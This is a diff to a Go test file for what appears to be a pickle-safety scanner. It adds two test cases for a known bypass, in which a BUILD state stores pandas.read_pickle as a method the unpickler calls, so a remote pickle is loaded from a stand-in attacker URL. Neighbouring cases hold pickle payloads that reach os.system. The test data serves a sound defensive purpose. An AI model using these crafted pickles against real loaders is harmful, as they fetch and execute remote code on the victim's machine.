@@ -52,6 +52,12 @@ func TestMachine(t *testing.T) {
 		{"BUILD setstate", "\x80\x02cmymod\nThing\n)\x81}b.", "mymod.Thing", CallBuild, "{}", ""},
 		{"APPENDS on an object", "\x80\x02cmymod\nBag\n)\x81(K\x01e.", "mymod.Bag", CallAppend, "1", ""},
 		{"SETITEMS on an object", "\x80\x02cmymod\nMap\n)\x81(K\x01K\x02u.", "mymod.Map", CallSetItem, "1, 2", ""},
+		// A BUILD state that stores a callable under a method the unpickler
+		// calls itself (QA's bypass: a remote pickle loaded on APPEND).
+		{"BUILD stores append, APPEND calls it", "\x80\x02ccollections\nOrderedDict\n)RN}Vappend\ncpandas\nread_pickle\ns\x86bVhttps://attacker.example/evil.pkl\na.",
+			"pandas.read_pickle", CallReduce, "", ""},
+		{"BUILD stores __setstate__, BUILD calls it", "\x80\x02ccollections\nOrderedDict\n)R}V__setstate__\ncpandas\nread_pickle\nsbVhttps://attacker.example/evil.pkl\nb.",
+			"pandas.read_pickle", CallReduce, "", ""},
 		{"FRAME", "\x80\x04\x95\x15\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x8c\x06system\x93)R.", "os.system", CallReduce, "", ""},
 		{"EXT1", "\x80\x02\x82\x07)R.", "copyreg extension.7", CallReduce, "", ""},
 		{"getattr synthesises the attribute", "\x80\x02cbuiltins\ngetattr\ncos\n\nVsystem\n\x86R)R.", "os.system", CallReduce, "", ""},
